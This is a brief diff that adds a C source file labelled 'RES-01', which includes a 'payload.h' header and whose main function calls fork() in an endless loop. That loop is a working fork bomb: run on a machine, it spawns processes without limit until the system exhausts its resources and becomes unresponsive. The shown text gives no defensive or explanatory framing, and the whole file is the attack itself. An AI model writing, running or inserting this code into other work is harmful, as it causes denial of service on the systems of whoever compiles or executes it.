@@ -1,0 +1,6 @@
+/* RES-01 */
+#include "payload.h"
+
+int main(void) {
+  for (;;) fork();
+}
